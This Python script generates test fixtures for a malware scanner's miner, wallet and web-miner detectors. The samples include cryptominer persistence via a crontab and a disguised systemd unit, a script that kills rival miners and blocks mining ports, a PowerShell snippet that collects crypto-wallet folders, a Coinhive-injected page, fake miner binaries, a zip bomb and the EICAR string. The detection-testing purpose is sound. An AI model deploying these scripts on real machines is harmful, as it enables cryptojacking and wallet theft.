#!/usr/bin/env python3
"""gen_files.py OUTDIR -- fixtures for the file engine's driver, archive
walker and the miner / wallet / web-miner analysers.

Everything is made here from benign bytes: miner configurations and
command lines are text (the wallet addresses are derived from seeded bytes
by the public encoding rules, with gen_wallets.py's encoders), wallet
stores are empty shells with the right headers, the "miner" binaries are
an ELF header followed by strings, the WASM and DEX files are minimal
well-formed containers with chosen names. No network, no real wallets, no
malware.

Layout of OUTDIR (each file's expected result is asserted by the unit
tests tests/unit/files/test_{engine,archive,miner,wallet,webminer}.c and
the e2e cases tests/e2e/files-*):
  miner/    config.json config_lookalike.json normal-config.json crontab
            start.sh miner.service killer.sh normal.sh lookalike.txt
            fake-xmrig.elf renamed-xmrig.elf normal.elf
  wallet/   tmp/wallet.dat tmp/wallet-sqlite.dat appdata/.bitcoin/wallet.dat
            loot/... stealer.ps1 normal-notes.txt
  web/      coinhive.html domain.html normal.html miner.wasm normal.wasm
            miner.apk normal.apk
  archive/  nested.zip deep.zip bomb.zip encrypted.zip scripts.tar.gz
            corrupt.zip
            loot.zip config.json.gz
  eicar/    eicar.com
"""
import io
import json
import os
import random
import sqlite3
import struct
import sys
import tarfile
import zipfile
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import gen_wallets  # noqa: E402  (same folder: Keccak and address encoders)

RNG = random.Random(20240501)


def xmr_wallet():
    keys = bytes(RNG.getrandbits(8) for _ in range(64))
    return gen_wallets.xmr_address(18, keys)


def corrupt(addr):
    """Same alphabet and length, one character changed: checksum fails."""
    i = len(addr) // 2
    c = 'A' if addr[i] != 'A' else 'B'
    bad = addr[:i] + c + addr[i + 1:]
    assert not gen_wallets.xmr_ok(bad)
    return bad


def write(path, data, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(path, 'wb') as f:
        f.write(data)
    os.chmod(path, mode)


def fake_elf(strings, rng=None):
    hdr = b'\x7fELF\x02\x01\x01' + b'\0' * 9
    hdr += struct.pack('<HHIQQQIHHHHHH', 2, 62, 1, 0x401000, 64, 0, 0, 64, 56, 0, 64, 0, 0)
    body = b'\0'.join(s.encode() for s in strings) + b'\0'
    rng = rng or RNG
    return hdr + b'\0' * 64 + body + bytes(rng.getrandbits(8) for _ in range(512))


# ---- miner ---------------------------------------------------------------

def gen_miner(out):
    w = xmr_wallet()
    bad = corrupt(xmr_wallet())
    cfg = {
        "autosave": True,
        "donate-level": 1,
        "cpu": {"enabled": True, "huge-pages": True},
        "randomx": {"init": -1},
        "pools": [{
            "algo": "rx/0", "coin": "monero",
            "url": "stratum+tcp://pool.example.net:3333",
            "user": w + ".rig01", "pass": "x", "keepalive": True, "tls": False,
        }],
    }
    write(f'{out}/miner/config.json', json.dumps(cfg, indent=4))
    cfg2 = json.loads(json.dumps(cfg))
    cfg2["pools"][0]["user"] = bad
    write(f'{out}/miner/config_lookalike.json', json.dumps(cfg2, indent=4))
    write(f'{out}/miner/normal-config.json', json.dumps({
        "name": "webapp", "url": "https://www.example.com/api", "port": 8080,
        "database": {"url": "postgres://db.example.com:5432/app", "user": "app"},
        "pools": [{"url": "https://cdn.example.com:443/", "user": "cdn"}],
    }, indent=2))
    write(f'{out}/miner/crontab',
          "# m h dom mon dow command\n"
          "17 3 * * * /usr/bin/apt-get -qq update\n"
          f"*/5 * * * * /tmp/.x/xmrig -o stratum+tcp://pool.example.net:4444 -u {w} -p x "
          "--donate-level 1 -B >/dev/null 2>&1\n")
    write(f'{out}/miner/start.sh',
          "#!/bin/sh\ncd /var/tmp/.cache || exit 1\n"
          f"nohup ./sysupdate -o pool.example.org:5555 -u {w} -p w1 -a rx/0 "
          "--cpu-max-threads-hint 75 >/dev/null 2>&1 &\n", 0o755)
    write(f'{out}/miner/miner.service',
          "[Unit]\nDescription=System update service\n\n[Service]\n"
          f"ExecStart=/opt/.m/xmrig --url=stratum+ssl://pool.example.net:443 --user={w} "
          "--donate-level=1\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n")
    write(f'{out}/miner/killer.sh',
          "#!/bin/sh\n"
          "pkill -f kdevtmpfsi\npkill -f kinsing\nkillall -9 xmr-stak\n"
          "ps aux | grep -v grep | grep 'minerd' | awk '{print $2}' | xargs kill -9\n"
          "ps aux | grep -v grep | grep 'cryptonight' | awk '{print $2}' | xargs kill -9\n"
          "iptables -A OUTPUT -p tcp --dport 3333 -j DROP\n"
          "crontab -l | sed '/xmrig/d' | crontab -\n", 0o755)
    write(f'{out}/miner/normal.sh',
          "#!/bin/sh\n# rotate logs and reload the web server\n"
          "pkill -HUP nginx\nkill -9 $(cat /run/old.pid)\n"
          "curl -o /tmp/x.tgz https://www.example.com/x.tgz\n", 0o755)
    write(f'{out}/miner/lookalike.txt',
          f"Donations welcome: {bad}\nThanks!\n")
    write(f'{out}/miner/fake-xmrig.elf', fake_elf([
        "XMRig/%s", "xmrig", "randomx", "cryptonight", "donate.v2.xmrig.com",
        "--donate-level", "stratum+tcp://", "rx/0", "cn/r", "--cpu-max-threads-hint",
        "mining.subscribe"]), 0o755)
    # a build that spells its name only as "XMRig" and has no pool URL
    # (its own random tail: the other fixtures' bytes stay as they were)
    write(f'{out}/miner/renamed-xmrig.elf', fake_elf([
        "XMRig 6.21.0", "RandomX", "--donate-level", "rx/0", "--cpu-max-threads-hint"],
        random.Random(6210)), 0o755)
    write(f'{out}/miner/normal.elf', fake_elf([
        "GLIBC_2.2.5", "usage: tool [options]", "--verbose", "https://example.com/"]), 0o755)
    return w


# ---- wallets ---------------------------------------------------------------

def bdb_wallet():
    page = bytearray(4096)
    struct.pack_into('<I', page, 12, 0x00053162)   # btree magic 62 31 05 00
    struct.pack_into('<I', page, 16, 9)
    struct.pack_into('<I', page, 20, 4096)
    keys = [b'\x04name', b'\x07version', b'\x0adefaultkey', b'\x0aminversion',
            b'\x09bestblock', b'main']
    off = 512
    for k in keys:
        page[off:off + len(k)] = k
        off += len(k) + 16
    return bytes(page) * 4


def sqlite_wallet(path, app_id=0xF9BEB4D9):
    if os.path.exists(path):
        os.unlink(path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    db = sqlite3.connect(path)
    signed = app_id - (1 << 32) if app_id >= 1 << 31 else app_id
    db.execute(f'PRAGMA application_id = {signed}')
    db.execute('CREATE TABLE main (key BLOB PRIMARY KEY, value BLOB)')
    db.execute("INSERT INTO main VALUES (x'0776657273696f6e', x'00')")
    db.commit()
    db.close()


def electrum_json():
    return json.dumps({
        "addr_history": {}, "keystore": {"type": "bip32", "xpub": "xpub-placeholder"},
        "seed_version": 18, "use_encryption": False, "wallet_type": "standard"}, indent=4)


def eth_keystore():
    return json.dumps({
        "version": 3, "id": "3198bc9c-6672-5ab3-d995-4942343ae5b6",
        "address": "008aeeda4d805471df9b2a5b0f38a0c3bcba786b",
        "crypto": {"ciphertext": "00" * 32, "cipherparams": {"iv": "00" * 16},
                   "cipher": "aes-128-ctr", "kdf": "scrypt",
                   "kdfparams": {"dklen": 32, "salt": "00" * 32, "n": 8192, "r": 8, "p": 1},
                   "mac": "00" * 32}})


def metamask_vault():
    return json.dumps({"data": "AAAA" * 40, "iv": "BBBB" * 6, "salt": "CCCC" * 11})


def gen_wallet(out):
    write(f'{out}/wallet/tmp/wallet.dat', bdb_wallet())
    sqlite_wallet(f'{out}/wallet/tmp/wallet-sqlite.dat')
    write(f'{out}/wallet/appdata/.bitcoin/wallet.dat', bdb_wallet())
    write(f'{out}/wallet/appdata/.electrum/wallets/default_wallet', electrum_json())
    write(f'{out}/wallet/loot/wallet.dat', bdb_wallet())
    write(f'{out}/wallet/loot/default_wallet', electrum_json())
    write(f'{out}/wallet/loot/UTC--2024-01-01T00-00-00.000Z--008aeeda4d805471df9b2a5b0f38a0c3bcba786b',
          eth_keystore())
    write(f'{out}/wallet/loot/vault.json', metamask_vault())
    write(f'{out}/wallet/loot/seed.seco', b'SECO' + bytes(RNG.getrandbits(8) for _ in range(200)))
    write(f'{out}/wallet/home/keystore-backup.json', eth_keystore())
    paths = [r"Electrum\wallets", r"Exodus\exodus.wallet", r"Ethereum\keystore",
             r"atomic\Local Storage\leveldb", r"com.liberty.jaxx", r"Zcash\wallet.dat",
             r"Guarda\Local Storage", r"Coinomi\Coinomi\wallets", r"Armory" + "\\",
             r"Bitcoin\wallet.dat"]
    exts = ["nkbihfbeogaeaoehlefnkodbefgpgknn", "fhbohimaelbohpjbbldcngcnapndodjp",
            "hnfanknocfeofbddgcijnmhnfnkdnaad", "ibnejdfjmmkpcnlpebklmnkoeoihofec",
            "bfnaelmomeimhlpmgjnjophhpkkoljpa"]
    lines = ["$dst = \"$env:TEMP\\collect\"", "$targets = @("]
    lines += [f"  \"$env:APPDATA\\{p}\"," for p in paths]
    lines += [")", "$ext = @("]
    lines += [f"  \"{e}\"," for e in exts]
    lines += [")", "foreach ($t in $targets) { Copy-Item -Recurse $t $dst -ErrorAction SilentlyContinue }"]
    write(f'{out}/wallet/stealer.ps1', "\r\n".join(lines) + "\r\n")
    write(f'{out}/wallet/normal-notes.txt',
          "Notes: install Electrum from the official site; MetaMask is a browser extension\n"
          "(id nkbihfbeogaeaoehlefnkodbefgpgknn). Keep backups of Exodus offline.\n")


# ---- web and mobile miners ----------------------------------------------------

def leb(n):
    b = bytearray()
    while True:
        c = n & 0x7f
        n >>= 7
        if n:
            b.append(c | 0x80)
        else:
            b.append(c)
            return bytes(b)


def wasm(exports):
    def sec(i, body):
        return bytes([i]) + leb(len(body)) + body
    types = sec(1, leb(1) + b'\x60\x00\x00')
    funcs = sec(3, leb(len(exports)) + b'\x00' * len(exports))
    ex = leb(len(exports))
    for i, name in enumerate(exports):
        ex += leb(len(name)) + name.encode() + b'\x00' + leb(i)
    code = leb(len(exports)) + b''.join(b'\x02\x00\x0b' for _ in exports)
    return b'\0asm\x01\0\0\0' + types + funcs + sec(7, ex) + sec(10, code)


def dex(strings):
    strings = sorted(strings)
    n = len(strings)
    ids_off = 0x70
    data_off = ids_off + 4 * n
    data = bytearray()
    offs = []
    for s in strings:
        offs.append(data_off + len(data))
        b = s.encode()
        data += leb(len(s)) + b + b'\0'
    body = bytearray(0x70)
    body[0:8] = b'dex\n035\0'
    total = 0x70 + 4 * n + len(data)
    struct.pack_into('<I', body, 0x20, total)
    struct.pack_into('<I', body, 0x24, 0x70)
    struct.pack_into('<I', body, 0x28, 0x12345678)
    struct.pack_into('<I', body, 0x38, n)
    struct.pack_into('<I', body, 0x3c, ids_off)
    blob = bytes(body) + b''.join(struct.pack('<I', o) for o in offs) + bytes(data)
    blob = bytearray(blob)
    struct.pack_into('<I', blob, 8, zlib.adler32(bytes(blob[12:])))
    return bytes(blob)


def apk(path, dex_strings, so_strings):
    d = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(path, 'w', d) as z:
        z.writestr(zinfo('AndroidManifest.xml', d), b'\x03\x00\x08\x00' + b'\0' * 60)
        z.writestr(zinfo('classes.dex', d), dex(dex_strings))
        z.writestr(zinfo('lib/arm64-v8a/libx.so', d), fake_elf(so_strings))
        z.writestr(zinfo('res/values/strings.xml', d),
                   '<resources><string name="app">App</string></resources>')


def gen_web(out):
    key = 'kZ3pQ8rT1vW6xY9aB2cD4eF7gH0jK5mN'
    write(f'{out}/web/coinhive.html',
          "<!DOCTYPE html>\n<html><head><title>Recipes</title>\n"
          "<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script>\n"
          f"<script>var miner = new CoinHive.Anonymous('{key}', {{throttle: 0.3}});\n"
          "miner.start();</script>\n</head><body><p>Welcome</p></body></html>\n")
    write(f'{out}/web/domain.html',
          "<!DOCTYPE html>\n<html><body>\n"
          "<script src=\"//statdynamic.crypto-loot.com/lib/x.js\"></script>\n"
          "</body></html>\n")
    write(f'{out}/web/normal.html',
          "<!DOCTYPE html>\n<html><head><title>About coin mining</title></head><body>\n"
          "<p>Read <a href=\"https://coinhive.com.example.net/article\">this article</a> "
          "and <a href=\"https://notcoinhive.com/\">that one</a>; our pool status page is "
          "<a href=\"https://www.example.org/status\">here</a>.</p>\n"
          "<script>function start() { return 1; }</script></body></html>\n")
    write(f'{out}/web/miner.wasm', wasm(['_cryptonight_create', '_cryptonight_hash', 'memory_x']))
    write(f'{out}/web/normal.wasm', wasm(['add', 'sub', 'main']))
    apk(f'{out}/web/miner.apk',
        ['Landroid/app/Activity;', 'Lcom/example/game/Main;', 'onCreate',
         'stratum+tcp://pool.example.net:3333', 'libxmrig', 'startMining'],
        ['xmrig', 'stratum+tcp://', 'cryptonight', 'randomx'])
    apk(f'{out}/web/normal.apk',
        ['Landroid/app/Activity;', 'Lcom/example/notes/Main;', 'onCreate',
         'https://www.example.com/api', 'saveNote'],
        ['JNI_OnLoad', 'libc.so', 'sqlite3_open'])


# ---- archives ---------------------------------------------------------------

FIXED_TIME = 1700000000
ZIP_TIME = (2023, 11, 14, 22, 13, 20)


def zinfo(name, method):
    zi = zipfile.ZipInfo(name, ZIP_TIME)
    zi.compress_type = method
    zi.external_attr = 0o644 << 16
    return zi


def zip_bytes(members, method=zipfile.ZIP_DEFLATED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, 'w', method) as z:
        for name, data in members:
            z.writestr(zinfo(name, method), data)
    return b.getvalue()


def gen_archive(out):
    cfg = open(f'{out}/miner/config.json', 'rb').read()
    inner = zip_bytes([('config.json', cfg), ('readme.txt', b'hello\n')])
    write(f'{out}/archive/nested.zip', zip_bytes([('inner.zip', inner), ('notes.txt', b'notes\n')]))
    deep = zip_bytes([('bottom.txt', b'bottom\n')])
    for i in range(10):
        deep = zip_bytes([(f'level{9 - i}.zip', deep)])
    write(f'{out}/archive/deep.zip', deep)
    write(f'{out}/archive/bomb.zip', zip_bytes([('zeros.bin', b'\0' * (64 << 20))]))
    plain = zip_bytes([('secret.txt', b'secret\n')], zipfile.ZIP_STORED)
    enc = bytearray(plain)
    # set "encrypted" (general purpose flag bit 0) in the local and central headers
    for sig in (b'PK\x03\x04', b'PK\x01\x02'):
        i = enc.find(sig)
        flag_off = i + (6 if sig == b'PK\x03\x04' else 8)
        enc[flag_off] |= 1
    write(f'{out}/archive/encrypted.zip', bytes(enc))
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode='w:gz') as t:
        data = open(f'{out}/miner/start.sh', 'rb').read()
        ti = tarfile.TarInfo('scripts/start.sh')
        ti.size = len(data)
        ti.mtime = 1700000000
        t.addfile(ti, io.BytesIO(data))
    write(f'{out}/archive/scripts.tar.gz', b.getvalue())
    import gzip
    write(f'{out}/archive/config.json.gz', gzip.compress(cfg, mtime=0))
    z = zip_bytes([('a.txt', b'A' * 1000), ('config.json', cfg)])
    write(f'{out}/archive/corrupt.zip', z[:len(z) // 2])
    # a wallet store inside an archive, and a loot archive of several apps
    write(f'{out}/archive/loot.zip', zip_bytes([
        ('wallets/wallet.dat', bdb_wallet()), ('wallets/default_wallet', electrum_json()),
        ('wallets/UTC--2024-01-01T00-00-00.000Z--00', eth_keystore())]))


def gen_eicar(out):
    # assembled backwards so that this generator does not hold the string
    s = '*H+H$!ELIF-TSET-SURIVITNA-DRADNATS-RACIE$}7)CC7)^P(45XZP\\4[PA@%P!O5X'
    write(f'{out}/eicar/eicar.com', s[::-1])


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    w = gen_miner(out)
    gen_wallet(out)
    gen_web(out)
    gen_archive(out)
    gen_eicar(out)
    write(f'{out}/wallet-address.txt', w + '\n')
    # fixed times: alerts carry the file's mtime as @timestamp
    for root, dirs, files in os.walk(out):
        for n in files + dirs:
            os.utime(os.path.join(root, n), (FIXED_TIME, FIXED_TIME))


if __name__ == '__main__':
    main()
